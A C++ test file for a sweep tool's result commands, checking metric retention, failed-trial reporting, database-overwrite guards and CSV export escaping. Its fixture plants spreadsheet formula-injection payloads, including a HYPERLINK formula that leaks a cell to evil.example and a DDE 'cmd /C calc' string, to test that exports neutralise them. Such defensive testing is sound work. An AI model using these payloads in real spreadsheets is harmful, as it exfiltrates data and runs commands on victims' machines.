// What `sweep run`, `best`, `export` and `report` say about a sweep's results, as a user runs them:
// every value an external trainer reports is kept, nan and inf parameters stay themselves, a sweep
// whose trials all failed has no best trial, exports never write over a database, CSV text cells
// never run as spreadsheet formulas, and -o - is standard output.
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>
#include <vector>

#include "common/json.h"
#include "store/store.h"
#include "tests/sweep/sweep_process_util.h"

namespace sweep::testing {
namespace {

namespace fs = std::filesystem;

struct Cli {
  int exit_code = -1;
  std::string out, err;
};

std::string quoted(const std::string& arg) {
  std::string q = "'";
  for (const char c : arg) q += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return q + "'";
}

// `sweep ARGS` run in `dir`, its stdout and stderr apart.
Cli sweep_cli(const fs::path& dir, const std::vector<std::string>& args) {
  std::string command = "cd " + quoted(dir.string()) + " && " + quoted(SWEEP_BINARY);
  for (const std::string& arg : args) command += " " + quoted(arg);
  command += " >" + quoted((dir / ".out").string()) + " 2>" + quoted((dir / ".err").string());
  const int status = std::system(command.c_str());
  Cli result;
  result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  result.out = slurp(dir / ".out");
  result.err = slurp(dir / ".err");
  fs::remove(dir / ".out");
  fs::remove(dir / ".err");
  return result;
}

// A sweep of an external trainer (`script`, run by sh with the parameter x as its argument) over
// x's `values`, one CPU slot, under dir/runs/NAME.
void write_sweep(const fs::path& dir, const std::string& name, const std::string& script,
                 const std::string& values) {
  std::ofstream(dir / (name + ".sh")) << script;
  std::ofstream(dir / (name + ".yaml"))
      << "name: " << name << "\n"
      << "trainer: {command: \"sh " << (dir / (name + ".sh")).string() << " {x}\"}\n"
      << "sweep: {method: grid, metric: {name: val_accuracy, goal: maximize},\n"
      << "        parameters: {x: {values: " << values << "}}}\n"
      << "resources: {execution: cpu, cpu_slots: 1}\n"
      << "output: {dir: " << (dir / "runs").string() << "}\n";
}

// A trainer whose step is the batch index, starting again every epoch (as many training loops
// print it), with val_accuracy 0.91, 0.85, 0.80 in epochs 1 to 3; it keeps its argument and the
// SWEEP_PARAMS it got in its trial directory.
constexpr const char* kEpochTrainer =
    "printf '%s' \"$1\" > \"$SWEEP_TRIAL_DIR/arg\"\n"
    "printf '%s' \"$SWEEP_PARAMS\" > \"$SWEEP_TRIAL_DIR/params.json\"\n"
    "for epoch in 1 2 3; do\n"
    "  case $epoch in 1) acc=0.91;; 2) acc=0.85;; 3) acc=0.80;; esac\n"
    "  for step in 0 1 2 3; do\n"
    "    echo \"{\\\"epoch\\\": $epoch, \\\"step\\\": $step, \\\"val_accuracy\\\": $acc}\"\n"
    "  done\n"
    "done\n";

// 12 lines whose step restarts every epoch became 4 rows, and the best printed was epoch 3's 0.8;
// parameters nan and inf reached the program as written but were null in the store, SWEEP_PARAMS
// and the exports.
TEST(ResultsCli, EveryReportedValueIsKeptAndNanAndInfParametersStayThemselves) {
  const fs::path dir = fresh_dir("sweep_results_epochs");
  write_sweep(dir, "epochs", kEpochTrainer, "[nan, inf]");
  const Cli run = sweep_cli(dir, {"run", (dir / "epochs.yaml").string()});
  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
  EXPECT_NE(run.out.find("best: trial 0, val_accuracy 0.91"), std::string::npos) << run.out;

  const fs::path db = dir / "runs" / "epochs" / "sweep.db";
  {
    const Store store(db, {.read_only = true});
    const SweepRow sweep = store.sweep_named("epochs");
    const std::vector<TrialRow> trials = store.trials(sweep.id);
    ASSERT_EQ(trials.size(), 2u);
    EXPECT_EQ(trials[0].params, (Json{{"x", "nan"}}));
    EXPECT_EQ(trials[1].params, (Json{{"x", "inf"}}));
    for (const TrialRow& t : trials) {
      const std::vector<MetricPoint> points = store.trial_metrics(t.id);
      ASSERT_EQ(points.size(), 12u) << "trial " << t.number;
      EXPECT_DOUBLE_EQ(points.front().value, 0.91);
      EXPECT_EQ(points.front().epoch.value_or(0), 1.0);
      EXPECT_DOUBLE_EQ(points.back().value, 0.80);
      EXPECT_EQ(points.back().epoch.value_or(0), 3.0);
      const fs::path trial_dir =
          dir / "runs" / "epochs" / "trials" / ("00" + std::to_string(t.number));
      EXPECT_EQ(slurp(trial_dir / "arg"), t.number == 0 ? "nan" : "inf");
      EXPECT_EQ(Json::parse(slurp(trial_dir / "params.json")), t.params);
      const std::string log = slurp(trial_dir / "log.txt");
      EXPECT_NE(log.find("sweep: metric lines: step 0 again in epoch 2"), std::string::npos) << log;
    }
  }
  const Cli best = sweep_cli(dir, {"best", "runs/epochs"});
  EXPECT_EQ(best.exit_code, 0) << best.err;
  EXPECT_EQ(best.out.rfind("trial 0: val_accuracy 0.91 at epoch 1 (step 0) (completed)\n", 0), 0u)
      << best.out;
  EXPECT_NE(best.out.find("params: x=nan"), std::string::npos) << best.out;

  const Cli csv = sweep_cli(dir, {"export", "runs/epochs"});
  EXPECT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_NE(csv.out.find("\n0,completed,cpu:0,nan,0.91,0.8,"), std::string::npos) << csv.out;
  EXPECT_NE(csv.out.find("\n1,completed,cpu:0,inf,0.91,0.8,"), std::string::npos) << csv.out;
  const Cli json = sweep_cli(dir, {"export", "runs/epochs", "--format", "json"});
  EXPECT_EQ(json.exit_code, 0) << json.err;
  const Json exported = Json::parse(json.out);
  EXPECT_EQ(exported.at("trials")[0].at("params").at("x"), "nan");
  EXPECT_EQ(exported.at("trials")[1].at("params").at("x"), "inf");
  EXPECT_EQ(exported.at("trials")[0].at("history").size(), 12u);
  fs::remove_all(dir);
}

// Every trial failed after reporting: `sweep best` exited 0 with the failed trial, and run's last
// line named it as the best without a word. Now neither calls it a result.
TEST(ResultsCli, WhenEveryTrialFailedThereIsNoBestTrial) {
  const fs::path dir = fresh_dir("sweep_results_failed");
  write_sweep(dir, "failing",
              "echo \"{\\\"val_accuracy\\\": 0.$((69 - $1))}\"\necho 'out of luck' >&2\nexit 3\n",
              "[0, 1]");
  const Cli run = sweep_cli(dir, {"run", (dir / "failing.yaml").string()});
  EXPECT_EQ(run.exit_code, 1) << run.out << run.err;
  EXPECT_NE(run.out.find("best: no successful trial (trial 0 reached val_accuracy 0.69 before it "
                         "failed)\n"),
            std::string::npos)
      << run.out;
  EXPECT_EQ(run.out.find("best: trial"), std::string::npos) << run.out;

  const Cli best = sweep_cli(dir, {"best", "runs/failing"});
  EXPECT_EQ(best.exit_code, 1);
  EXPECT_EQ(best.out.rfind("no successful trial of failing: every trial that reported val_accuracy "
                           "failed or diverged\n"
                           "best value of a broken trial: trial 0 (failed), val_accuracy 0.69 at "
                           "step 1\n"
                           "its error: exited with code 3",
                           0),
            0u)
      << best.out;
  EXPECT_EQ(best.out.find("config:"), std::string::npos) << best.out;
  fs::remove_all(dir);
}

// A finished sweep in dir/runs/NAME/sweep.db, written directly: text cells a spreadsheet would run
// (a categorical value, a parameter's name, a failure's message) and a negative number.
fs::path write_results_db(const fs::path& dir) {
  const fs::path db = dir / "runs" / "results" / "sweep.db";
  fs::create_directories(db.parent_path());
  Store store(db);
  SweepSpec spec;
  spec.name = "results";
  spec.metric_name = "val_accuracy";
  const std::int64_t sweep_id = store.create_sweep(spec);
  std::vector<TrialSpec> rows(2);
  rows[0].params = {{"link", "=HYPERLINK(\"http://evil.example/?\"&A1, \"open\")"},
                    {"@cmd", "+1+1"},
                    {"offset", -3}};
  rows[1].number = 1;
  rows[1].params = {{"link", "-2+3"}, {"@cmd", "@SUM(1)"}, {"offset", 0.5}};
  const std::vector<std::int64_t> ids = store.add_trials(sweep_id, rows);
  for (std::size_t i = 0; i < ids.size(); ++i) {
    store.claim_trial(ids[i], "cpu:0");
    MetricPoint p;
    p.trial_id = ids[i];
    p.name = "val_accuracy";
    p.step = 1;
    p.value = i == 0 ? -0.25 : 0.5;
    p.wall_time = 1.7e9;
    store.log_metrics(std::vector<MetricPoint>{p});
    store.set_trial_state(
        ids[i], i == 0 ? TrialState::failed : TrialState::completed,
        {.error = i == 0 ? std::optional<std::string>("\tcmd|' /C calc'!A0") : std::nullopt});
  }
  return db;
}

// CSV cells that start with = + - @, a tab or a carriage return ran as formulas in a spreadsheet.
TEST(ResultsCli, CsvTextCellsNeverRunAsFormulasAndNumbersStayNumbers) {
  const fs::path dir = fresh_dir("sweep_results_csv");
  write_results_db(dir);
  const Cli csv = sweep_cli(dir, {"export", "results"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  const std::string header = csv.out.substr(0, csv.out.find('\n'));
  EXPECT_EQ(header.rfind("number,state,device,'@cmd,link,offset,best_val_accuracy,", 0), 0u)
      << header;
  EXPECT_NE(csv.out.find("\n0,failed,cpu:0,'+1+1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, "
                         "\"\"open\"\")\",-3,-0.25,-0.25,"),
            std::string::npos)
      << csv.out;
  EXPECT_NE(csv.out.find(",'\tcmd|' /C calc'!A0\n"), std::string::npos) << csv.out;
  EXPECT_NE(csv.out.find("\n1,completed,cpu:0,'@SUM(1),'-2+3,0.5,0.5,0.5,"), std::string::npos)
      << csv.out;

  const Cli raw = sweep_cli(dir, {"export", "results", "--raw"});
  ASSERT_EQ(raw.exit_code, 0) << raw.err;
  EXPECT_EQ(raw.out.rfind("number,state,device,@cmd,link,", 0), 0u) << raw.out;
  EXPECT_NE(raw.out.find("\n1,completed,cpu:0,@SUM(1),-2+3,0.5,"), std::string::npos) << raw.out;
  fs::remove_all(dir);
}

// `sweep export NAME -o runs/NAME/sweep.db` said "wrote", exited 0 and destroyed the sweep.
TEST(ResultsCli, ExportAndReportNeverWriteOverADatabaseUnlessForced) {
  const fs::path dir = fresh_dir("sweep_results_guard");
  const fs::path db = write_results_db(dir);
  const fs::path other = dir / "queue.db";  // any other SQLite database, a queue's for one
  { Store queue(other); }
  const std::string own = db.string();
  const std::vector<std::pair<std::string, std::string>> refused = {
      {own, "it is this sweep's own database"},
      {own + "-wal", "it is the wal file of this sweep's own database"},
      {own + "-shm", "it is the shm file of this sweep's own database"},
      {(dir / "runs" / "results" / "." / "sweep.db").string(), "it is this sweep's own database"},
      {other.string(), "it is an SQLite database"},
      {other.string() + "-journal", "it is the journal file of the SQLite database"}};
  for (const auto& [target, why] : refused) {
    for (const std::vector<std::string>& command :
         {std::vector<std::string>{"export", "results", "-o", target},
          std::vector<std::string>{"report", "results", "-o", target}}) {
      const Cli out = sweep_cli(dir, command);
      EXPECT_EQ(out.exit_code, 1) << command[0] << " " << target;
      EXPECT_NE(out.err.find("refusing to write " + target + ": " + why), std::string::npos)
          << out.err;
      EXPECT_EQ(out.err.find("wrote"), std::string::npos) << out.err;
      EXPECT_NE(out.err.find("--force"), std::string::npos) << out.err;
    }
  }
  // Both databases are whole, and no side file holds an export.
  for (const std::string& side : {own + "-wal", own + "-shm", other.string() + "-journal"})
    EXPECT_TRUE(!fs::exists(side) || slurp(side).find("number,") == std::string::npos) << side;
  const Cli show = sweep_cli(dir, {"show", "results"});
  EXPECT_EQ(show.exit_code, 0) << show.err;
  EXPECT_EQ(sweep_cli(dir, {"list", "--db", other.string()}).exit_code, 0);

  // --force writes over the other database, as asked.
  const Cli forced = sweep_cli(dir, {"export", "results", "-o", other.string(), "--force"});
  EXPECT_EQ(forced.exit_code, 0) << forced.err;
  EXPECT_EQ(slurp(other).rfind("number,state,", 0), 0u);
  fs::remove_all(dir);
}

// -o - wrote a file named "-".
TEST(ResultsCli, DashIsStandardOutput) {
  const fs::path dir = fresh_dir("sweep_results_dash");
  write_results_db(dir);
  const Cli csv = sweep_cli(dir, {"export", "results", "-o", "-"});
  EXPECT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_EQ(csv.out, sweep_cli(dir, {"export", "results"}).out);
  EXPECT_EQ(csv.err, "");
  const Cli json = sweep_cli(dir, {"export", "results", "--format", "json", "-o", "-"});
  EXPECT_EQ(json.exit_code, 0) << json.err;
  EXPECT_EQ(Json::parse(json.out).at("trials").size(), 2u);
  const Cli report = sweep_cli(dir, {"report", "results", "-o", "-"});
  EXPECT_EQ(report.exit_code, 0) << report.err;
  EXPECT_EQ(report.out.rfind("<!DOCTYPE html>", 0), 0u) << report.out.substr(0, 200);
  EXPECT_FALSE(fs::exists(dir / "-"));
  EXPECT_FALSE(fs::exists(dir / "runs" / "results" / "report.html"));
  fs::remove_all(dir);
}

// Issue 42's hostile pass, #100: `-o ''` wrote to standard output in silence. #101: `-o
// /dev/stdout | cat` failed "cannot write /proc/self/fd/pipe:[N]"; a pipe or a device is written
// in place, a shell's >(...) too.
TEST(ResultsCli, AnEmptyOutputIsRefusedAndPipesAreWrittenInPlace) {
  const fs::path dir = fresh_dir("sweep_results_pipes");
  write_results_db(dir);
  for (const std::string command : {"export", "report"}) {
    const Cli empty = sweep_cli(dir, {command, "results", "-o", ""});
    EXPECT_EQ(empty.exit_code, 2) << command << ": " << empty.err;
    EXPECT_NE(empty.err.find("'': expected a file, or - for standard output"), std::string::npos)
        << empty.err;
    EXPECT_EQ(empty.out, "") << command;
  }
  const std::string expected = sweep_cli(dir, {"export", "results"}).out;
  ASSERT_FALSE(expected.empty());
  const auto shell = [&](const std::string& line) {
    const std::string command = "cd " + quoted(dir.string()) + " && bash -c " + quoted(line);
    const int status = std::system(command.c_str());
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  };
  const std::string sweep = quoted(SWEEP_BINARY);
  EXPECT_EQ(shell(sweep + " export results -o /dev/stdout 2>err | cat > piped.csv"), 0)
      << slurp(dir / "err");
  EXPECT_EQ(slurp(dir / "piped.csv"), expected);
  EXPECT_EQ(shell(sweep + " export results -o >(cat > substituted.csv) 2>err; wait $!"), 0)
      << slurp(dir / "err");
  EXPECT_EQ(slurp(dir / "substituted.csv"), expected);
  EXPECT_EQ(shell(sweep + " report results -o /dev/stdout 2>err | cat > page.html"), 0)
      << slurp(dir / "err");
  EXPECT_EQ(slurp(dir / "page.html").rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_EQ(shell(sweep + " export results -o /dev/null"), 0);
  EXPECT_TRUE(fs::exists("/dev/null") && !fs::is_regular_file("/dev/null"));
  fs::remove_all(dir);
}

}  // namespace
}  // namespace sweep::testing
